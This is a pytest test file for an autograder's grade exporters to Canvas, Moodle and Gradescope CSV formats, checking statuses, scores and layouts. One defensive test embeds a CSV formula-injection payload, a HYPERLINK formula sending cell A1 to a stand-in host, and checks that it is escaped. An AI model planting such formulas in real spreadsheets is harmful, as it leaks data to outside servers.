import pytest

from autograder.export import CanvasExporter, GradescopeExporter, GradesExporter, MoodleExporter
from tests.autograder.classroom import ASSIGNMENT
from tests.autograder.export.conftest import CLASS, read

NUMBERS = ("raw_score", "late_submission_penalty", "score")


@pytest.fixture
def plain(export):
    header, *rows = export(GradesExporter, ASSIGNMENT)
    return {row["student_id"]: row for row in (dict(zip(header, row, strict=True)) for row in rows)}


def test_the_status_says_where_each_student_stands(plain):
    assert {student: row["status"] for student, row in plain.items()} == {
        "full": "graded",
        "manual": "needs manual",
        "ungraded": "ungraded",
        "late": "graded",
        "zero": "graded",
        "absent": "not submitted",
    }


def test_what_is_ungraded_or_not_submitted_is_blank_and_a_zero_is_a_zero(plain):
    for student in ("ungraded", "absent"):
        assert [plain[student][name] for name in NUMBERS] == ["", "", ""]
    assert [plain["zero"][name] for name in NUMBERS] == ["0.0"] * 3
    assert plain["ungraded"][f"{ASSIGNMENT}/mean--hidden"] == ""
    assert plain["ungraded"][f"{ASSIGNMENT}/double--hidden"] == "2.0"


def test_scores_are_those_of_nbgraders_own_export(plain):
    assert [plain["full"][name] for name in NUMBERS] == ["7.0", "0.0", "7.0"]
    assert [plain["manual"][name] for name in NUMBERS] == ["5.0", "0.0", "5.0"]
    assert [plain["late"][name] for name in NUMBERS] == ["5.0", "1.5", "3.5"]


def test_questions_of_all_assignments_have_a_column_each(export):
    header, *rows = export(GradesExporter)
    names = [name for name in header if name.startswith("02_more/")]
    assert names == ["02_more/a/q", "02_more/b/draw", "02_more/b/q"]
    (full,) = [row for row in rows if row[0] == "02_more" and row[3] == "full"]
    assert dict(zip(header, full, strict=True))["score"] == "5.5"
    assert full[-3:] == ["1.0", "3.5", "1.0"]
    assert full[12:-3] == [""] * len(CLASS["full"])
    assert {len(row) for row in rows} == {len(header)}


def test_only_the_chosen_students_are_exported(export):
    _, *rows = export(GradesExporter, ASSIGNMENT, student=["late", "zero"])
    assert {row[3] for row in rows} == {"late", "zero"}


@pytest.mark.parametrize(
    "exporter", [GradesExporter, CanvasExporter, MoodleExporter, GradescopeExporter]
)
def test_no_text_of_a_student_becomes_a_formula(export, exporter):
    cells = {cell for row in export(exporter, ASSIGNMENT) for cell in row}
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert any(cell.startswith('\'=HYPERLINK("http://x.y?"&A1') for cell in cells)


def test_quotes_commas_and_line_ends_in_a_name_stay_in_their_cell(plain):
    assert plain["absent"]["first_name"] == '\'@Ana, the "second"\nline'
    assert plain["absent"]["max_score"] == "7.0"


def test_canvas_gets_final_scores_below_the_points_possible(export):
    header, possible, *rows = export(CanvasExporter, columns={ASSIGNMENT: "Sums (1234)"})
    known = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert header == [*known, "Sums (1234)", "02_more"]
    assert possible == ["Points Possible", "", "", "", "", "7.0", "6.0"]
    scores = {row[3]: row[5:] for row in rows}
    assert scores == {
        "full": ["7.0", "5.5"],
        "manual": ["", ""],
        "ungraded": ["", ""],
        "late": ["3.5", ""],
        "zero": ["0.0", ""],
        "absent": ["", ""],
    }
    assert [row[1] for row in rows if row[3] == "absent"] == ["17"]


def test_moodle_gets_final_scores_by_id_number(export):
    header, *rows = export(MoodleExporter, ASSIGNMENT)
    assert header == ["First name", "Last name", "ID number", "Email address", ASSIGNMENT]
    assert ["", "", "late", "", "3.5"] in rows
    assert ["", "", "manual", "", ""] in rows


def test_gradescopes_layout_has_a_file_for_each_assignment(export, tmp_path):
    header, *rows = export(GradescopeExporter, ASSIGNMENT)
    late = next(dict(zip(header, row, strict=True)) for row in rows if row[2] == "late")
    assert (late["Total Score"], late["Max Points"], late["Status"]) == ("3.5", "7.0", "Graded")
    assert late["Lateness (H:M:S)"] == "26:00:05"
    assert late["Submission Time"] == "2026-03-02 14:00:05 +0000"
    assert header[13:15] == ["1: double--hidden (2.0 pts)", "2: double--small (1.0 pts)"]
    assert {row[2]: row[7] for row in rows} == {
        "full": "Graded",
        "manual": "Ungraded",
        "ungraded": "Ungraded",
        "late": "Graded",
        "zero": "Graded",
        "absent": "Missing",
    }
    (tmp_path / "out.csv").unlink()
    names = [path.name for path in export(GradescopeExporter)]
    assert names == [f"out-{ASSIGNMENT}.csv", "out-02_more.csv"]
    assert read(tmp_path / "out-02_more.csv")[0][13:] == [
        "1: a/q (1.0 pts)",
        "2: b/draw (4.0 pts)",
        "3: b/q (1.0 pts)",
    ]
